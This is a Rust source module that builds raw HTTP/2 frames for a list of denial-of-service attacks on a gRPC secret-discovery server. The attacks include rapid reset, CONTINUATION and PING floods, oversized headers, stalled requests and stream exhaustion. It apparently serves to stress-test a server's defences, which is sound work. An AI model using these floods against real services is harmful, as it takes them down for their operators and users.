//! What each attack says.
//!
//! Source: RFC 9113 §6; RFC 7541 §6.

use super::Attack;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
pub(super) const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
pub(super) const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const UNKNOWN: u8 = 0xfe;

pub(super) const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const INITIAL_WINDOW_SIZE: [u8; 2] = [0, 4];
const MAX_FRAME: usize = 16 << 10;
/// How often one thing is said before the server is given a look.
const AT_ONCE: usize = 200;
/// Calls that an attacker keeps open on a connection: as many as are usual.
const CALLS: usize = 100;
/// What a default Envoy sends in each request.
const LARGE: usize = 60 << 10;

pub(super) const STREAM: &str = "/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets";
const FETCH: &str = "/envoy.service.secret.v3.SecretDiscoveryService/FetchSecrets";

/// What is said once, when connected.
pub(super) fn opening(attack: Attack, next_stream: &mut u32) -> Vec<u8> {
    let mut out = Vec::new();
    if attack == Attack::Silence {
        return out;
    }
    out.extend(PREFACE);
    match attack {
        Attack::TinyWindow => frame(&mut out, SETTINGS, 0, 0, &setting(INITIAL_WINDOW_SIZE, 0)),
        Attack::NeverReads => frame(&mut out, SETTINGS, 0, 0, &setting(INITIAL_WINDOW_SIZE, 16 << 20)),
        _ => frame(&mut out, SETTINGS, 0, 0, &[]),
    }
    let mut open = |count| (0..count).map(|_| take(next_stream)).collect::<Vec<_>>();
    match attack {
        Attack::EmptyData => open(1).iter().for_each(|&stream| call(&mut out, stream, STREAM, 0)),
        Attack::LargeRequests => open(1).iter().for_each(|&stream| call(&mut out, stream, STREAM, 0)),
        Attack::OpenCalls => open(CALLS).iter().for_each(|&stream| call(&mut out, stream, STREAM, 0)),
        Attack::HalfRequest => {
            for stream in open(CALLS) {
                call(&mut out, stream, STREAM, 0);
                let request = request("ROOTCA", 0);
                frame(&mut out, DATA, 0, stream, &request[..request.len() / 2]);
            }
        }
        Attack::TinyWindow | Attack::NeverReads => {
            for stream in open(CALLS) {
                call(&mut out, stream, STREAM, 0);
                frame(&mut out, DATA, 0, stream, &request("ROOTCA", 0));
            }
        }
        Attack::Continuation => {
            let [stream] = open(1)[..] else { return out };
            frame(&mut out, HEADERS, 0, stream, &head(STREAM));
        }
        _ => {}
    }
    out
}

/// What is said again and again; nothing when all is said.
pub(super) fn more(attack: Attack, next_stream: &mut u32, out: &mut Vec<u8>) {
    let mut often =
        |kind, stream, payload: &[u8]| (0..AT_ONCE).for_each(|_| frame(out, kind, 0, stream, payload));
    match attack {
        Attack::Connect | Attack::Silence | Attack::OpenCalls | Attack::HalfRequest | Attack::NeverReads => {}
        Attack::Ping => often(PING, 0, &[7; 8]),
        Attack::Settings => often(SETTINGS, 0, &[]),
        Attack::WindowUpdate => often(WINDOW_UPDATE, 0, &1u32.to_be_bytes()),
        Attack::Priority => often(PRIORITY, 9_999, &[0, 0, 0, 0, 16]),
        Attack::Unknown => often(UNKNOWN, 0, &[0; 8]),
        Attack::EmptyData => often(DATA, 1, &[]),
        // A field of a few bytes, without an end.
        Attack::Continuation => often(CONTINUATION, 1, b"\x00\x01x\x01y"),
        Attack::TinyWindow => {
            for stream in (1..2 * CALLS as u32).step_by(2) {
                frame(out, WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes());
            }
        }
        Attack::LargeRequests => {
            let request = request("ROOTCA", LARGE);
            request.chunks(MAX_FRAME).for_each(|part| frame(out, DATA, 0, 1, part));
        }
        Attack::RapidReset
        | Attack::HeaderFields
        | Attack::HeaderList
        | Attack::Calls
        | Attack::TooManyCalls => {
            for _ in 0..AT_ONCE / 4 {
                call_again(attack, take(next_stream), out);
            }
        }
    }
}

fn call_again(attack: Attack, stream: u32, out: &mut Vec<u8>) {
    match attack {
        Attack::RapidReset => {
            call(out, stream, STREAM, 0);
            frame(out, RST_STREAM, 0, stream, &8u32.to_be_bytes());
        }
        Attack::TooManyCalls => call(out, stream, STREAM, 0),
        Attack::HeaderFields => {
            let mut block = head(FETCH);
            (0..100).for_each(|_| block.extend(b"\x00\x01x\x01y"));
            frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
        }
        Attack::HeaderList => {
            let mut block = head(FETCH);
            // A name of one byte and a value of 120, eighty times.
            (0..80).for_each(|_| block.extend([b"\x00\x01x\x78".as_slice(), &[b'y'; 120]].concat()));
            frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
        }
        _ => {
            call(out, stream, FETCH, 0);
            frame(out, DATA, END_STREAM, stream, &request("ROOTCA", 0));
        }
    }
}

fn take(next_stream: &mut u32) -> u32 {
    let stream = *next_stream;
    *next_stream += 2;
    stream
}

/// The head of a gRPC call.
pub(super) fn call(out: &mut Vec<u8>, stream: u32, path: &str, flags: u8) {
    frame(out, HEADERS, END_HEADERS | flags, stream, &head(path));
}

/// `:method POST` and `:scheme http` of the static table, the rest in full, without indexing.
fn head(path: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    let mut literal = |name: &[u8], value: &str| {
        block.extend_from_slice(name);
        block.push(value.len() as u8);
        block.extend_from_slice(value.as_bytes());
    };
    literal(&[0x04], path);
    literal(&[0x01], "localhost");
    literal(&[0x0f, 0x10], "application/grpc");
    literal(b"\x00\x02te", "trailers");
    block
}

/// A `DiscoveryRequest` for one name, with a `Node` whose id is so long, in its gRPC frame.
pub(super) fn request(name: &str, node: usize) -> Vec<u8> {
    let mut message = Vec::new();
    if node > 0 {
        let mut inner = Vec::new();
        prost::encoding::string::encode(1, &"n".repeat(node), &mut inner);
        prost::encoding::bytes::encode(2, &inner, &mut message);
    }
    prost::encoding::string::encode(3, &name.to_owned(), &mut message);
    // A message of ours is far below 4 GiB.
    [&[0], &(message.len() as u32).to_be_bytes()[..], &message].concat()
}

fn setting(name: [u8; 2], value: u32) -> Vec<u8> {
    [&name[..], &value.to_be_bytes()].concat()
}

/// What an honest client says before anything else.
pub(super) fn hello() -> Vec<u8> {
    opening(Attack::Calls, &mut 1)
}

pub(super) fn data(out: &mut Vec<u8>, stream: u32, payload: &[u8]) {
    frame(out, DATA, 0, stream, payload);
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    // No payload of ours is longer than MAX_FRAME.
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend([kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Kinds of the frames in `bytes`, which they fill.
    fn kinds(mut bytes: &[u8]) -> Vec<u8> {
        let mut kinds = Vec::new();
        while let Some((&[a, b, c, kind, ..], rest)) = bytes.split_first_chunk::<9>() {
            let length = u32::from_be_bytes([0, a, b, c]) as usize;
            assert!(length <= MAX_FRAME, "{length}");
            kinds.push(kind);
            bytes = &rest[length..];
        }
        assert!(bytes.is_empty(), "{} bytes are left", bytes.len());
        kinds
    }

    #[test]
    fn every_attack_is_whole_frames_and_has_a_name_of_its_own() {
        for attack in Attack::ALL {
            let mut next_stream = 1;
            let opening = opening(attack, &mut next_stream);
            let mut more_bytes = Vec::new();
            more(attack, &mut next_stream, &mut more_bytes);
            let frames = opening.strip_prefix(PREFACE).unwrap_or_default();
            let said = [kinds(frames), kinds(&more_bytes)].concat();
            let says_nothing = matches!(attack, Attack::Connect | Attack::Silence);
            assert_eq!(said.len() <= 1, says_nothing, "{attack:?}");
            assert_eq!(Attack::named(attack.name()), Some(attack));
        }
    }
}
